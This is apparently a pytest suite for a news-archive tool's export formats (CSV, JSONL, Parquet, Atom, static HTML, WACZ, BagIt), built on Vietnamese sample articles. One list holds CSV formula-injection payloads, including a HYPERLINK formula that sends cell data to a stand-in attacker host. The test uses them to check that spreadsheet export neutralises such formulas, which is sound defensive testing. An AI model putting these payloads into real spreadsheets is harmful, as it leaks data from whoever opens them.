"""Data sets, feeds, editions and deposits, as those who get them open them."""

from __future__ import annotations

import csv
import json
import re
import sqlite3
import subprocess
import sys
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree

import pytest
from click.testing import CliRunner
from sqlite_utils import Database

from archive import Run, finish_run, ingest, start_run
from archive.cli import archive
from archive.queries.tabular import EXPORT_COLUMNS
from archive.web.static_edition import folded
from tests.chromium import CHROMIUM_PATH, needs_chromium
from tests.replay import TOOLS, needs_tools, tool
from tests.support import NOON, PAPER, Shoot, page

ATOM = "{http://www.w3.org/2005/Atom}"


def luubao(*arguments: object, code: int = 0) -> str:
    done = CliRunner().invoke(archive, [str(one) for one in arguments])
    assert done.exit_code == code, done.output
    return done.output


@pytest.fixture
def paper(path: Path, db: Database, run: Run, shoot: Shoot) -> Path:
    """Two articles, one of them edited and with a picture, a script in a headline; a third that is withdrawn."""
    figure = '<figure><img src="/anh/1.png"><figcaption>Cầu Đuống. Ảnh: Minh An</figcaption></figure></article>'
    for headline, hours in (("Cầu Đuống mới", 0), ("Cầu Đuống mới thông xe", 24)):
        ingest(db, run, shoot(body=page(headline).replace("</article>", figure), hours=hours))
    ingest(
        db,
        run,
        shoot(
            "https://bao.example/b.htm",
            page("Chợ phiên &lt; chợ đêm &amp; hội", body="Phiên chợ đông người. " * 12),
            hours=2,
        ),
    )
    ingest(
        db, run, shoot("https://bao.example/kin.htm", page("Tin kín", body="Chuyện riêng của một người. " * 9), hours=3)
    )
    ingest(db, run, replace(shoot("https://bao.example/b.htm", hours=60), status=404))
    finish_run(db, run, outcome="ok", reason=None, stats={}, moment=NOON)
    luubao("withdraw", "https://bao.example/kin.htm", "--reason", "asked", "--db", path)
    return path


def rows(paper: Path, target: Path, *how: object) -> list[dict[str, Any]]:
    luubao("export", "jsonl", "--db", paper, "--to", target, *how)
    return [json.loads(line) for line in (target / "versions.jsonl").read_text("utf-8").splitlines()]


def test_a_row_says_what_the_version_is(paper: Path, tmp_path: Path) -> None:
    found = rows(paper, tmp_path / "x", "--history")
    assert [(one["headline"], one["number"], one["is_current"]) for one in found] == [
        ("Cầu Đuống mới", 1, False),
        ("Cầu Đuống mới thông xe", 2, True),
        ("Chợ phiên < chợ đêm & hội", 1, True),
    ]
    assert list(found[0]) == list(EXPORT_COLUMNS)
    second = found[1]
    assert second["image_urls"] == ["https://bao.example/anh/1.png"] and second["credits"] == ["Minh An"]
    assert (second["first_seen_at"], second["last_seen_at"], second["changed"]) == (
        "2026-05-21T12:00:00Z",
        "2026-05-21T12:00:00Z",
        "headline",
    )
    assert found[2]["gone_since"] == "2026-05-23T00:00:00Z"


@pytest.mark.parametrize(
    ("how", "headlines"),
    [
        ([], ["Cầu Đuống mới thông xe", "Chợ phiên < chợ đêm & hội"]),
        (["--words", "cau duong"], ["Cầu Đuống mới thông xe"]),
        (["--edited"], ["Cầu Đuống mới thông xe"]),
        (["--gone"], ["Chợ phiên < chợ đêm & hội"]),
        (["--since", "2026-05-20", "--edited", "--history"], ["Cầu Đuống mới", "Cầu Đuống mới thông xe"]),
        (["--since", "2026-05-21", "--history"], []),  # neither names its day: both were first seen the day before
        (["--until", "2026-05-20"], ["Cầu Đuống mới thông xe", "Chợ phiên < chợ đêm & hội"]),
    ],
)
def test_versions_are_chosen_as_in_search(paper: Path, tmp_path: Path, how: list[str], headlines: list[str]) -> None:
    assert [one["headline"] for one in rows(paper, tmp_path / "x", *how)] == headlines


@pytest.mark.parametrize("span", [("--since", "2026-05-20"), ("--since", "2026-05-21"), ("--until", "2026-05-19")])
def test_an_article_that_names_no_day_is_in_the_same_span_for_search_and_export(
    paper: Path, tmp_path: Path, span: tuple[str, str]
) -> None:
    exported = rows(paper, tmp_path / "x", *span)
    found = luubao("search", "cầu OR chợ", *span, "--json", "--db", paper, code=0 if exported else 1)
    assert {one["headline"] for one in json.loads(found)} == {one["headline"] for one in exported}
    assert bool(exported) == (span == ("--since", "2026-05-20"))


def test_the_card_tells_what_is_not_there(paper: Path, tmp_path: Path) -> None:
    said = luubao("export", "csv", "--db", paper, "--to", tmp_path / "x")
    assert "1 withdrawn articles were left out" in said
    card = (tmp_path / "x" / "README.md").read_text("utf-8")
    assert "2 versions of 2 articles" in card and "1 articles were withdrawn and are not in it." in card
    assert "license: other" in card and all(f"| `{name}` |" in card for name in EXPORT_COLUMNS)
    with (tmp_path / "x" / "versions.csv").open(encoding="utf-8", newline="") as file:
        assert [row["headline"] for row in csv.DictReader(file)] == [
            "Cầu Đuống mới thông xe",
            "Chợ phiên < chợ đêm & hội",
        ]


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2)', "+1+1", "-2+3", "@SUM(1)", "＝1+1"]
PLAIN = ["Giá xăng = 25.000 đồng", "'Cầu' đã xong", "12 - 3"]


def cells(file: Path, encoding: str) -> list[str]:
    with file.open(encoding=encoding, newline="") as opened:
        return [row["headline"] for row in csv.DictReader(opened)]


def test_a_spreadsheet_runs_nothing_of_a_page_and_programs_get_every_value(
    path: Path, db: Database, run: Run, shoot: Shoot, tmp_path: Path
) -> None:
    for number, headline in enumerate([*FORMULAS, *PLAIN]):
        ingest(db, run, shoot(f"https://bao.example/b-{number}.htm", page(headline, body=f"Bài số {number}. " * 30)))
    luubao("export", "csv", "--db", path, "--to", tmp_path / "exact")
    luubao("export", "csv", "--excel", "--db", path, "--to", tmp_path / "excel")
    assert cells(tmp_path / "exact" / "versions.csv", "utf-8") == [*FORMULAS, *PLAIN]
    for_people = tmp_path / "excel" / "versions.csv"
    assert for_people.read_bytes().startswith(b"\xef\xbb\xbfversion_id,")
    assert cells(for_people, "utf-8-sig") == [*(f"'{one}" for one in FORMULAS), *PLAIN]
    assert [one["headline"] for one in rows(path, tmp_path / "jsonl")] == [*FORMULAS, *PLAIN]
    luubao("export", "jsonl", "--excel", "--db", path, "--to", tmp_path / "no", code=2)


LOADERS = {
    "polars parquet": "import polars; t = polars.read_parquet(p + '/parquet/versions.parquet'); print(t.height, t['headline'][1], t['credits'].to_list()[1])",
    "polars jsonl": "import polars; t = polars.read_ndjson(p + '/jsonl/versions.jsonl'); print(t.height, t['headline'][1], t['credits'].to_list()[1])",
    "duckdb parquet": "import duckdb; t = duckdb.sql(f\"SELECT headline, credits FROM '{p}/parquet/versions.parquet' ORDER BY version_id\").fetchall(); print(len(t), *t[1])",
    "duckdb csv": "import duckdb; t = duckdb.sql(f\"SELECT headline, credits FROM '{p}/csv/versions.csv' ORDER BY version_id\").fetchall(); print(len(t), t[1][0], __import__('json').loads(t[1][1]))",
    "datasets": "from datasets import load_dataset; t = load_dataset(p + '/parquet', split='train', cache_dir=p + '/cache'); print(len(t), t[1]['headline'], t[1]['credits'])",
}


@pytest.fixture
def data(paper: Path, tmp_path: Path) -> Path:
    for form in ("jsonl", "csv", "parquet"):
        luubao("export", form, "--db", paper, "--history", "--to", tmp_path / "data" / form)
    return tmp_path / "data"


@needs_tools
@pytest.mark.parametrize("name", LOADERS)
def test_data_sets_load_where_people_work(data: Path, name: str) -> None:
    program = (
        f"import os; os.environ.update(HF_HUB_OFFLINE='1', HF_DATASETS_OFFLINE='1'); p = {str(data)!r}\n{LOADERS[name]}"
    )
    done = subprocess.run(
        [str(TOOLS / "python"), "-c", program], capture_output=True, text=True, check=False, timeout=120
    )
    assert done.stdout.strip().splitlines()[-1:] == ["3 Cầu Đuống mới thông xe ['Minh An']"], done.stderr[-2000:]


def test_without_pyarrow_a_sentence_says_what_to_install(paper: Path, tmp_path: Path) -> None:
    program = "import sys; sys.modules['pyarrow'] = None\nfrom archive.cli import archive; archive()"
    done = subprocess.run(
        [sys.executable, "-c", program, "export", "parquet", "--db", str(paper), "--to", str(tmp_path / "x")],
        capture_output=True, text=True, check=False, cwd=Path(__file__).parent.parent.parent,
    )  # fmt: skip
    assert done.returncode == 1 and "pip install 'luubao[parquet]'" in done.stderr


def test_the_slim_file_is_searched_with_and_without_marks(paper: Path, tmp_path: Path) -> None:
    luubao("export", "sqlite", "--db", paper, "--history", "--to", tmp_path / "x")
    with closing(sqlite3.connect(tmp_path / "x" / "versions.db")) as db:
        hits = "SELECT headline FROM versions WHERE version_id IN (SELECT rowid FROM search WHERE search MATCH ?) ORDER BY 1"
        for words in ('"cau duong"', '"cầu đuống"'):
            assert db.execute(hits, [words]).fetchall() == [("Cầu Đuống mới",), ("Cầu Đuống mới thông xe",)]
        assert b"Chuy\xe1\xbb\x87n ri\xc3\xaang" not in (tmp_path / "x" / "versions.db").read_bytes()


def test_the_feed_is_atom(paper: Path, tmp_path: Path) -> None:
    for _ in range(2):  # cron renews it
        luubao("export", "atom", "--db", paper, "--to", tmp_path / "x.atom")
    root = ElementTree.parse(tmp_path / "x.atom").getroot()
    entries = root.findall(f"{ATOM}entry")
    assert [one.findtext(f"{ATOM}title") for one in entries] == ["Cầu Đuống mới thông xe", "Chợ phiên < chợ đêm & hội"]
    assert root.findtext(f"{ATOM}updated") == "2026-05-21T12:00:00Z"
    for one in (root, *entries):  # RFC 4287 sections 4.1.1 and 4.1.2
        assert all(one.findtext(f"{ATOM}{name}") for name in ("id", "title", "updated"))


def test_each_version_is_an_entry_of_its_own_in_its_language(paper: Path, db: Database, shoot: Shoot) -> None:
    """Also one that goes back to earlier words. RFC 4287 section 4.2.6: an id is an IRI."""
    run = start_run(db, PAPER, {}, NOON)
    for hours, headline in ((30, "Bridge"), (31, "The bridge"), (32, "Bridge")):
        body = page(headline).replace('lang="vi"', 'lang="en"')
        ingest(db, run, shoot("https://bao.example/c.htm", body, hours=hours))
    luubao("export", "atom", "--db", paper, "--history", "--to", paper.with_name("x.atom"))
    root = ElementTree.parse(paper.with_name("x.atom")).getroot()
    entries = root.findall(f"{ATOM}entry")
    ids = [entry.findtext(f"{ATOM}id") or "" for entry in (root, *entries)]
    assert len({*ids}) == len(ids) == 1 + 6
    assert [number for number in ids if not re.fullmatch(r"tag:luubao,2026:[\w./%~-]+", number)] == []
    languages = {entry.get("{http://www.w3.org/XML/1998/namespace}lang") for entry in entries}
    assert (languages, "lang" in str(root.attrib)) == ({"vi", "en"}, False)


def test_nothing_is_written_over(paper: Path, tmp_path: Path) -> None:
    (tmp_path / "x").mkdir()
    (tmp_path / "x" / "mine.txt").touch()
    for form in ("jsonl", "csv", "parquet", "sqlite", "html", "bag"):
        assert "is there already. Name another place with --to" in luubao(
            "export", form, "--db", paper, "--to", tmp_path / "x", code=1
        )


# --- the static edition -----------------------------------------------------------------------------------------------


def seen(file: Path, fragment: str = "") -> str:
    """The page as a browser without any server has made it."""
    assert CHROMIUM_PATH
    command = [
        CHROMIUM_PATH,
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--virtual-time-budget=8000",
        "--dump-dom",
        f"{file.as_uri()}{fragment}",
    ]
    return subprocess.run(command, capture_output=True, text=True, check=False, timeout=600).stdout


@needs_chromium
@pytest.mark.parametrize(
    ("words", "found"),
    [("cau duong", 1), ("CẦU Đuống", 1), ('"duong moi"', 1), ('"moi duong"', 0), ("cho phien", 1), ("chuyen rieng", 0)],
)
def test_a_browser_searches_the_edition_from_its_folder(paper: Path, tmp_path: Path, words: str, found: int) -> None:
    luubao("export", "html", "--db", paper, "--to", tmp_path / "x")
    shown = seen(tmp_path / "x" / "index.html", f"#q={quote(words)}")
    hits = shown.partition('id="hits"')[2].partition("</ul>")[0]
    assert hits.count("<li>") == found, shown[-3000:]


def test_an_article_of_the_edition_has_all_its_versions_and_no_script(paper: Path, tmp_path: Path) -> None:
    luubao("export", "html", "--db", paper, "--to", tmp_path / "x")
    pages = {file.name: file.read_text("utf-8") for file in (tmp_path / "x" / "articles").iterdir()}
    first = next(text for text in pages.values() if "Cầu Đuống mới thông xe" in text)
    assert "<summary>Bản 1: 19:00, 20/5/2026" in first and "Cầu Đuống. Ảnh: Minh An" not in first
    assert "<figcaption>Cầu Đuống. (Minh An)</figcaption>" in first
    everything = "".join(
        file.read_text("utf-8") for file in (tmp_path / "x").rglob("*.*") if file.suffix in (".html", ".js")
    )
    assert "Chợ phiên &lt; chợ đêm &amp; hội" in everything
    assert "Chuyện riêng" not in everything and folded("Chuyện riêng") not in everything


# --- bundles and deposits ---------------------------------------------------------------------------------------------


@needs_tools
def test_a_wacz_is_valid_and_is_read_back(paper: Path, tmp_path: Path) -> None:
    luubao("export", "wacz", "--db", paper, "--to", tmp_path / "x.wacz")
    checked = tool("wacz", "validate", "-f", tmp_path / "x.wacz")
    assert checked.returncode == 0 and "is valid" in checked.stdout, checked.stdout + checked.stderr
    assert luubao("import", tmp_path / "x.wacz", "--db", tmp_path / "b.db", "--jobs", 0).startswith("4 captures added")


@needs_tools
def test_a_bag_is_valid_and_damage_shows(paper: Path, tmp_path: Path) -> None:
    luubao("export", "bag", "--db", paper, "--to", tmp_path / "bag", "--organisation", "Thư viện tỉnh")
    assert tool("bagit.py", "--validate", tmp_path / "bag").returncode == 0
    assert "Source-Organization: Thư viện tỉnh" in (tmp_path / "bag" / "bag-info.txt").read_text("utf-8")
    with (tmp_path / "bag" / "data" / "versions.jsonl").open("a") as file:
        file.write("x")
    assert tool("bagit.py", "--validate", tmp_path / "bag").returncode != 0


_DAMAGES = {
    "lost": "UPDATE bodies SET data = zeroblob(length(data)) WHERE id = (SELECT body_id FROM captures WHERE id = 3)",
    "exchanged": "UPDATE bodies SET digest = 'sha256:' || hex(zeroblob(32)) WHERE id = (SELECT body_id FROM captures"
    " WHERE id = 3)",
}


@pytest.mark.parametrize("damage", _DAMAGES)
@pytest.mark.parametrize("form", ["warc", "wacz", "bag"])
def test_a_page_whose_bytes_are_damaged_is_named_and_left_out(
    paper: Path, tmp_path: Path, form: str, damage: str
) -> None:
    damaged(paper, _DAMAGES[damage])
    told = luubao("export", form, "--db", paper, "--to", tmp_path / f"x.{form}", code=1)
    assert "passed over: captures 3: body 3 " in told and told.startswith("3 captures"), told
    packed = tmp_path / "x.bag" / "data" / "warc" if form == "bag" else tmp_path / f"x.{form}"
    assert luubao("import", packed, "--db", tmp_path / "b.db", "--jobs", 0).startswith("3 captures added")


@pytest.mark.parametrize("form", ["jsonl", "csv", "parquet", "sqlite", "html", "atom"])
def test_a_text_that_cannot_be_read_is_named_and_left_out(paper: Path, tmp_path: Path, form: str) -> None:
    damaged(paper, "UPDATE texts SET details = '{}' WHERE headline LIKE 'Chợ phiên%'")
    told = luubao("export", form, "--db", paper, "--to", tmp_path / "out", code=1)
    assert "passed over: " in told and (tmp_path / "out").exists(), told


def damaged(path: Path, change: str) -> None:
    with closing(sqlite3.connect(path)) as db:
        for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'trigger'").fetchall():
            db.execute(f"DROP TRIGGER {name}")
        assert db.execute(change).rowcount == 1
        db.commit()
